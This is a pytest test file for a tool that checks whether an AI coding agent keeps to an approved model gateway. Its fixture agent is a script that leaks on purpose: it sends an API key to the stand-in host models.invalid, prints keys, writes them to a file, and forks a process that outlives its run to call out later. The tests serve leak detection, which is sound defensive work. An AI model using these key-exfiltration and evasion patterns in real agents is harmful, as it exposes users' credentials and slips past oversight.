"""The proof fails on every way an agent can leave, and passes only on the one way it may go.

The agents here are small scripts that misbehave on purpose; the real one is run by
tests/e2e/test_verify_command.py.
"""

from __future__ import annotations

import functools
import os
import sys
from pathlib import Path

import pytest

from guard.agents.opencode.adapter import AGENT as OPENCODE
from guard.errors import PolicyError
from guard.launch import verify
from guard.launch.proof.stage import ProofHome, throw_away, without_key
from guard.launch.verify import Binary, Proof, bare_launch, prove
from guard.policy import cache

AGENT = """
import json, os, re, sys, time, urllib.request
from pathlib import Path

mode = sys.argv[1]
config = Path(os.environ["XDG_CONFIG_HOME"]) / "routeguard" / "policy.toml"
base = re.search(r'base_url = "(.*)"', config.read_text())[1]
key = os.environ["PORTKEY_API_KEY"]
rotated = os.environ.get("ROTATED", "")
direct = rotated[-1:] + rotated[:-1] or os.environ["OPENAI_API_KEY"]


def ask(model, path="/chat/completions", **headers):
    body = json.dumps({"model": model}).encode()
    request = urllib.request.Request(base + path, body, headers)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(request) as answer:
        return json.load(answer)["choices"][0]["message"]["content"]


def leave(url, **headers):
    try:
        urllib.request.urlopen(urllib.request.Request(url, headers=headers))
    except OSError:
        pass


def honest(model="verify-answer", **more):
    print(ask(model, **{"x-portkey-api-key": key, **more}))


here = Path(sys.argv[0]).parent


def await_file(name):
    while not (here / name).exists():
        time.sleep(0.01)


def outlive():
    if os.fork() == 0:
        os.setsid()
        await_file("guarded runs")
        leave("http://late.invalid/")
        (here / "left late").touch()
        os._exit(0)
    leave("http://models.invalid/", Authorization=direct)


def after_the_late_one():
    (here / "guarded runs").touch()
    await_file("left late")
    honest()


MODES = {
    "outliving its run": outlive,
    "after the late one": after_the_late_one,
    "honest": honest,
    "keeping its environment": honest,
    "silent": lambda: None,
    "failing": lambda: sys.exit("no way through"),
    "sleeping": lambda: time.sleep(600),
    "trying for long": lambda: (leave("http://models.invalid/"), time.sleep(600)),
    "inventing": lambda: (ask("verify-answer", **{"x-portkey-api-key": key}), print("mine")),
    "foreign model": lambda: honest("gpt-4o"),
    "bearer": lambda: honest(Authorization="Bearer x"),
    "key in another header": lambda: honest(**{"x-other": direct}),
    "gateway key twice": lambda: honest(**{"x-other": key}),
    "contacting": lambda: (honest(), leave("http://models.invalid/")),
    "sending a key": lambda: (honest(), leave("http://models.invalid/", Authorization=direct)),
    "printing a key": lambda: (honest(), print(direct)),
    "complaining a key": lambda: (honest(), print(key, file=sys.stderr)),
    "writing a key": lambda: (honest(), Path(os.environ["HOME"], "log").write_text(direct)),
}
MODES[mode]()
"""

CLEAN = """
import os, sys
clean = {k: v for k, v in os.environ.items() if k == "PORTKEY_API_KEY" or "API_KEY" not in k}
direct = os.environ["OPENAI_API_KEY"]
clean["ROTATED"] = direct[1:] + direct[0]
kept = os.environ if sys.argv[2] == "keeping its environment" else clean
os.execve(sys.executable, [sys.executable, *sys.argv[1:]], kept)
"""
"""What a guarded launch does to the environment before it becomes the agent. A key is left in a
form in which it is no leak, for the agents that misbehave with it."""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "agent.py").write_text(AGENT)
    (tmp_path / "clean.py").write_text(CLEAN)
    return tmp_path


def proof_of(
    root: Path, mode: str, *, control: str = "", timeout: float = 60.0, thorough: bool = True
) -> Proof:
    """Prove the route of an agent of this `mode`; `control` is the mode of the bare run."""
    bare = root / "bare"
    bare.write_text(f'#!/bin/sh\nexec {sys.executable} {root}/agent.py "{control}"\n')
    bare.chmod(0o755)
    return prove(
        Binary(OPENCODE, str(bare), "1.18.33"),
        os.environ,
        str(root / "places"),
        timeout=timeout,
        control=bool(control),
        say=lambda text: None,
        thorough=thorough,
        launch=[sys.executable, str(root / "clean.py"), str(root / "agent.py"), mode],
    )


def failed(proof: Proof) -> dict[str, str]:
    return {check.name: check.detail for check in proof.checks if not check.ok}


def test_the_one_way_it_may_go(root: Path) -> None:
    proof = proof_of(root, "honest", control="sending a key")
    assert failed(proof) == {}
    assert proof.passed
    assert proof.control is not None
    (contact,) = proof.control.contacts
    assert (contact.host, contact.calls) == ("models.invalid:80", 1)
    assert contact.carried == ("OPENAI_API_KEY",)
    assert len(proof.guarded.gateway) == 1
    assert proof.guarded.found == ()


LEFT = "no key left its place"
ANSWERED = "the agent answered through the gateway"
CALLED = "the gateway received a correct call"
ALONE = "nobody else was contacted"


@pytest.mark.parametrize(
    ("mode", "expected"),
    [
        ("silent", {ANSWERED: "something else", CALLED: "received none"}),
        ("failing", {ANSWERED: "no way through", CALLED: "received none"}),
        ("inventing", {ANSWERED: "mine"}),
        ("foreign model", {CALLED: "gpt-4o"}),
        ("bearer", {CALLED: "Authorization"}),
        ("key in another header", {LEFT: "OPENAI_API_KEY sent to the gateway"}),
        ("gateway key twice", {LEFT: "PORTKEY_API_KEY sent to the gateway"}),
        ("contacting", {ALONE: "models.invalid:80"}),
        ("sending a key", {ALONE: "models.invalid:80", LEFT: "sent to models.invalid:80"}),
        ("printing a key", {LEFT: "OPENAI_API_KEY printed on stdout"}),
        ("complaining a key", {LEFT: "PORTKEY_API_KEY printed on stderr"}),
        ("writing a key", {LEFT: "OPENAI_API_KEY written to home/log"}),
        pytest.param(
            "keeping its environment",
            {LEFT: "OPENAI_API_KEY in the environment of the agent"},
            marks=pytest.mark.skipif(sys.platform != "linux", reason="reads /proc"),
        ),
    ],
)
def test_ways_it_may_not_go(root: Path, mode: str, expected: dict[str, str]) -> None:
    found = failed(proof_of(root, mode))
    for name, words in expected.items():
        assert words in found.pop(name)
    assert found == {}


def test_an_agent_that_does_not_end_is_ended(root: Path) -> None:
    found = failed(proof_of(root, "sleeping", timeout=1.0))
    assert "still running after 1 s" in found[ANSWERED]


def test_the_first_contact_of_the_guarded_run_is_enough(root: Path) -> None:
    proof = proof_of(root, "trying for long", timeout=600.0, thorough=False)
    assert failed(proof) == {ALONE: "models.invalid:80"}
    assert not proof.guarded.ended.timed_out


def test_a_control_that_contacts_nobody_proves_nothing(root: Path) -> None:
    found = failed(proof_of(root, "honest", control="honest"))
    assert list(found) == ["the proof can see a leak"]


def test_what_the_control_leaves_behind_is_not_the_guarded_ones(root: Path) -> None:
    proof = proof_of(root, "after the late one", control="outliving its run")
    assert failed(proof) == {}


def test_no_key_is_shown_in_a_verdict(root: Path) -> None:
    proof = proof_of(root, "complaining a key")
    assert "canary" not in str([check.detail for check in proof.checks])


def test_the_callers_own_keys_and_settings_stay_outside(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MISTRAL_API_KEY", "the callers own")
    monkeypatch.setenv("NO_PROXY", "*")
    with throw_away(keep=False) as place:
        surroundings = ProofHome(place, os.environ)
    assert not {"MISTRAL_API_KEY", "NO_PROXY"} & surroundings.environ.keys()
    assert surroundings.environ["PATH"] == os.environ["PATH"]


@pytest.mark.parametrize(
    ("system", "why"),
    [
        ('[gateway]\nbase_url = "https://gateway.example.com/v1"\n', "gateway.example.com"),
        ('user_exceptions = "refuse"\n', "exceptions"),
        ('[gateway]\nkey = { command = ["op", "read", "x"] }\n', "real key"),
        ('[gateway]\nproxy = "http://proxy.example.com:8080"\n', "past the recording proxy"),
    ],
)
def test_a_system_policy_that_does_not_let_it_stand_in(
    root: Path, monkeypatch: pytest.MonkeyPatch, system: str, why: str
) -> None:
    path = root / "system.toml"
    path.write_text(system)
    path.chmod(0o644)
    load = functools.partial(cache.load, system=str(path))
    monkeypatch.setattr("guard.launch.verify.cache.load", load)
    with pytest.raises(PolicyError, match="cannot prove") as raised:
        proof_of(root, "honest")
    assert why in raised.value.why
    assert raised.value.where == str(path)


def test_without_key_takes_the_one_header_and_nothing_else() -> None:
    head = b"POST / HTTP/1.1\r\nX-Portkey-API-Key: k1\r\nother: k1\r\n\r\nk1"
    assert without_key(head, "k1") == (
        b"POST / HTTP/1.1\r\nX-Portkey-API-Key:\r\nother: k1\r\n\r\nk1"
    )
    assert without_key(head, "k2") == head


def test_a_throw_away_directory_goes_or_stays() -> None:
    with throw_away(keep=False) as gone:
        (Path(gone) / "file").write_text("")
    assert not Path(gone).exists()
    with throw_away(keep=True) as kept:
        pass
    Path(kept).rmdir()


@pytest.mark.parametrize(
    ("version", "standalone"), [("1.18.33", False), ("2.0.10", True), ("", False)]
)
def test_a_bare_second_generation_agent_leaves_no_server(version: str, standalone: bool) -> None:
    assert ("--standalone" in bare_launch(Binary(OPENCODE, "/bin/agent", version))) is standalone


@pytest.mark.parametrize(
    ("script", "version"),
    [
        ("echo 1.18.33", "1.18.33"),
        ("echo opencode v2.0.10", "2.0.10"),
        ("exit 1", ""),
        ("true", ""),
    ],
)
def test_version_of(tmp_path: Path, script: str, version: str) -> None:
    agent = tmp_path / "agent"
    agent.write_text(f"#!/bin/sh\n{script}\n")
    agent.chmod(0o755)
    assert verify.version_of(str(agent), os.environ) == version
    assert verify.version_of(str(tmp_path / "none"), os.environ) == ""
